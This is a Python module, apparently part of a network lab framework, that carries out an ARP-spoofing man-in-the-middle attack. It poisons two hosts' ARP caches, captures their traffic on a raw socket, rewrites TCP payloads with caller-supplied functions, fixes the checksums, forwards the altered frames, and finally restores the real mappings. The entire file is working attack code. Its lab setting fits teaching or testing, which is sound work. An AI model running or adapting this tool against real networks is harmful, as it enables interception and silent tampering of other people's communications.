"""A man in the middle: claims two hosts' addresses by ARP, and forwards what they say, altered."""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Callable

from lab.host import Host
from lab.network import Context

_ETH_P_ALL, _OUTGOING = 0x0003, 4
Change = Callable[[bytes], bytes]
"""From the octets of a TCP segment to as many others."""


def _octets(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def _claim(own: bytes, ip: str, of: Host) -> bytes:
    """An ARP reply to `of`: this address is at our card."""
    head = _octets(of.mac) + own + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2)
    return head + own + socket.inet_aton(ip) + _octets(of.mac) + socket.inet_aton(of.ip)


def _sum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _altered(frame: bytes, change: Change) -> bytes:
    """The frame with its TCP octets changed, and the checksum made right again."""
    start = 14 + 4 * (frame[14] & 15)
    end = 14 + struct.unpack(">H", frame[16:18])[0]
    if frame[23] != 6 or end <= start + 4 * (frame[start + 12] >> 4):
        return frame
    offset = start + 4 * (frame[start + 12] >> 4)
    segment = frame[start : start + 16] + b"\0\0" + frame[start + 18 : offset] + change(frame[offset:end])
    pseudo = frame[26:34] + struct.pack(">HH", 6, len(segment))
    check = struct.pack(">H", _sum(pseudo + segment))
    return frame[:start] + segment[:16] + check + segment[18:] + frame[end:]


def stand_between(
    context: Context, client: str, server: str, seconds: float, to_client: Change, to_server: Change
) -> None:
    """Do it for so many seconds; `to_client` and `to_server` change what the one and the other gets."""
    ends = {context.hosts[client].ip: (context.hosts[client], to_client)}
    ends[context.hosts[server].ip] = (context.hosts[server], to_server)
    own, until = _octets(context.host.mac), context.now + seconds
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as card:
        card.bind(("eth0", 0))
        card.settimeout(0.5)

        def claim() -> None:
            first, second = (host for host, _ in ends.values())
            while context.now < until:
                card.send(_claim(own, second.ip, first))
                card.send(_claim(own, first.ip, second))
                time.sleep(2)

        threading.Thread(target=claim, daemon=True).start()
        while context.now < until:
            try:
                frame, address = card.recvfrom(65535)
            except TimeoutError:
                continue
            if address[2] == _OUTGOING or frame[:6] != own or frame[12:14] != b"\x08\x00":
                continue
            target, change = ends.get(socket.inet_ntoa(frame[30:34]), (None, None))
            if target is None or change is None or frame[26:30] == socket.inet_aton(context.host.ip):
                continue
            card.send(_octets(target.mac) + own + _altered(frame, change)[12:])
        first, second = (host for host, _ in ends.values())
        # The ways are put right again, as tools for this do when they end.
        card.send(_claim(_octets(second.mac), second.ip, first))
        card.send(_claim(_octets(first.mac), first.ip, second))
